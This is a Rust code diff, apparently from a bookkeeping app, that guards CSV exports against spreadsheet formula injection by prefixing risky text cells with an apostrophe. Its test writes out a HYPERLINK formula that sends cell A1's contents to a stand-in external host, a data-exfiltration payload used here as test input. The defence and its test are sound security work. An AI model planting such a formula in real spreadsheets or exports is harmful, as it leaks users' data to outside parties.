@@ -50,12 +50,23 @@ impl Cell {
     pub fn csv(&self) -> String {
         match self {
             Self::Empty => String::new(),
-            Self::Text(s) => s.clone(),
+            Self::Text(s) => as_plain_text(s),
             Self::Date(d) => d.format("%d/%m/%Y").to_string(),
             Self::Time(t) => t.format("%H:%M").to_string(),
             Self::DateTime(at) => at.format("%d/%m/%Y %H:%M").to_string(),
             Self::Money(n) | Self::Count(n) => n.to_string(),
         }
+    }
+}
+
+/// Text as a CSV cell a spreadsheet takes as text: one that Excel or LibreOffice would read as
+/// a formula (starting `=`, `+`, `-`, `@`, a tab or a carriage return) gets an apostrophe in
+/// front, so opening the file never runs what somebody typed into a description or a name
+/// (OWASP's advice on CSV injection). XLSX cells are written as strings and need nothing.
+fn as_plain_text(s: &str) -> String {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
+        _ => s.to_owned(),
     }
 }
 
@@ -320,6 +331,29 @@ mod tests {
         assert_eq!(
             String::from_utf8(csv).unwrap(),
             "01/12/2025;01/12/2025 07:05;07:05;1500000;3;;\"Sewa; \"\"dapur\"\"\"\r\n"
+        );
+    }
+
+    #[test]
+    fn text_a_spreadsheet_would_run_as_a_formula_stays_text_in_csv() {
+        let row: Vec<Cell> = [
+            "=HYPERLINK(\"http://contoh.id/?\"&A1;\"klik\")",
+            "+62 812 3456",
+            "-beli gas",
+            "@SUM(A1:A9)",
+            "\tcatatan",
+            "nasi = 5",
+        ]
+        .into_iter()
+        .map(Cell::text)
+        .chain([Cell::Money(-5_000)])
+        .collect();
+        let csv = CsvTable::new(b';', Language::Id).rows(&[row]);
+        assert_eq!(
+            String::from_utf8(csv).unwrap(),
+            "\"'=HYPERLINK(\"\"http://contoh.id/?\"\"&A1;\"\"klik\"\")\";'+62 812 3456;\
+             '-beli gas;'@SUM(A1:A9);'\tcatatan;nasi = 5;-5000\r\n",
+            "a formula's first character gets an apostrophe; a negative amount stays a number"
         );
     }
 
